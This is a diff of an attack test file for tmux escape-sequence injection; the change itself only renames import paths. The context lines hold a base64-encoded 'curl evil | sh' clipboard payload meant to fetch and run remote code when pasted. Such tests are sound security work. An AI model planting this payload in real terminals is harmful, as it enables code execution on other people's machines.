@@ -1,8 +1,8 @@
 // Escape sequences go to the other's terminal: in names and messages, with tmux's own filters switched off, and straight to their pty.
 import { expect } from '@jest/globals';
-import type { Attack } from '../../../house/attack.ts';
-import { clientOf, expectSoon, fileFor, runIn, takeTerminal } from '../../../house/in-session.ts';
-import { enter } from '../../../house/inside.ts';
+import type { Attack } from '../../../harness/attack.ts';
+import { clientOf, expectSoon, fileFor, runIn, takeTerminal } from '../../../harness/in-session.ts';
+import { enter } from '../../../harness/inside.ts';
 
 /** Fills the clipboard with a command; base64 of "curl evil | sh" and a newline, which pastes and runs. */
 const evil = 'Y3VybCBldmlsIHwgc2gK';
